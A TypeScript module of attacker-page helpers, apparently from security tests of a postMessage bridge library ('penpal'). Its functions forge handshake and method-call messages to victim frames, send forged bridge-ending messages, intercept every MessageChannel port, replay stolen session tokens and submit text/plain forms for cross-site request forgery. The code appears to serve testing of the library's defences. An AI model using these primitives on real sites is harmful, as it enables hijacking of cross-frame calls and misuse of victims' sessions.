/**
 * What runs in pages of attackers, by its source: each function stands alone, and what it needs comes as arguments.
 */

interface Reply {
  type?: string;
  isError?: boolean;
  value?: { ok?: boolean; value?: unknown };
}

/**
 * Hands every frame of a window a port of our own, as if we were the other side of the bridge, and calls a method over it.
 * Answers what is replied; undefined where nothing is within `waitMs`.
 */
export async function callOverOwnPort(
  target: Window,
  method: string,
  args: unknown[],
  waitMs: number,
): Promise<unknown> {
  const windowsOf = (outer: Window): Window[] => [
    outer,
    ...Array.from({ length: outer.length }, (_, index) => outer[index]!).flatMap(windowsOf),
  ];
  const base = { namespace: 'penpal', channel: undefined };
  const replies = windowsOf(target).map((victim) => {
    const { port1, port2 } = new MessageChannel();
    const reply = new Promise<unknown>((resolve) => {
      port1.onmessage = ({ data }: MessageEvent<Reply>) => {
        if (data.type === 'REPLY' && !data.isError && data.value?.ok !== false)
          resolve(data.value?.value ?? data.value);
      };
    });
    victim.postMessage({ ...base, type: 'ACK2' }, '*', [port2]);
    port1.postMessage({ ...base, type: 'CALL', id: 'forged', methodPath: [method], args });
    return reply;
  });
  return Promise.race([...replies, new Promise((resolve) => setTimeout(resolve, waitMs))]);
}

/** Puts a frame with the address into this page; answers what it says to the page until it has loaded, and a while longer. */
export async function frame(src: string, waitMs: number): Promise<unknown[]> {
  const heard: unknown[] = [];
  addEventListener('message', ({ data, source }) => {
    if (source === iframe.contentWindow) heard.push(data);
  });
  const iframe = document.createElement('iframe');
  iframe.id = 'victim';
  const wait = (): Promise<unknown> => new Promise((resolve) => setTimeout(resolve, waitMs));
  const loaded = new Promise((resolve) => iframe.addEventListener('load', resolve));
  iframe.src = src;
  document.body.append(iframe);
  // Not every browser tells of the end of a frame that it refuses.
  await Promise.race([loaded, wait()]);
  await wait();
  return heard;
}

/** Asks for a session with what was stolen; answers what the page may read of it. */
export async function openSession(url: string, form: Record<string, string>): Promise<string> {
  const answer = await fetch(url, { method: 'POST', body: new URLSearchParams(form) }).catch(() => undefined);
  return answer ? answer.text() : '';
}

/** Sends JSON with a session that was stolen. Whether the page may read the answer is another matter. */
export async function useSession(url: string, token: string, body: object): Promise<void> {
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  await fetch(url, { method: 'POST', headers, body: JSON.stringify(body) }).catch(() => undefined);
}

/** Leaves for the address with a form whose text is JSON: nothing else takes cookies along, or is given any. */
export function postAsForm(url: string, name: string, value: string): void {
  const form = document.createElement('form');
  Object.assign(form, { method: 'post', enctype: 'text/plain', action: url });
  form.append(Object.assign(document.createElement('input'), { name, value }));
  document.body.append(form);
  form.submit();
}

/** Says to every frame of a window, as its other side would, that the bridge has ended. */
export function endBridges(target: Window): void {
  target.postMessage({ namespace: 'penpal', channel: undefined, type: 'DESTROY' }, '*');
  for (let index = 0; index < target.length; index++) {
    target[index]!.postMessage({ namespace: 'penpal', channel: undefined, type: 'DESTROY' }, '*');
  }
}

/** Has a copy of each port over which this page's scripts talk, from now on. */
export function keepPorts(): void {
  const ports: MessagePort[] = [];
  Object.assign(globalThis, { ports });
  globalThis.MessageChannel = class extends MessageChannel {
    constructor() {
      super();
      ports.push(this.port1, this.port2);
    }
  };
  addEventListener('message', (event) => ports.push(...event.ports), { capture: true });
}

/** Calls a method over the ports that were kept; true where it was carried out. */
export async function isCalled(method: string, waitMs: number): Promise<boolean> {
  const { ports } = globalThis as unknown as { ports: MessagePort[] };
  const replies = ports.map((port) => {
    const reply = new Promise<boolean>((resolve) => {
      port.addEventListener('message', ({ data }: MessageEvent<{ callId?: string; isError?: boolean }>) => {
        if (data.callId === 'forged') resolve(data.isError !== true);
      });
    });
    port.postMessage({
      namespace: 'penpal',
      channel: undefined,
      type: 'CALL',
      id: 'forged',
      methodPath: [method],
      args: [],
    });
    return reply;
  });
  return Promise.race([...replies, new Promise<boolean>((resolve) => setTimeout(resolve, waitMs, false))]);
}
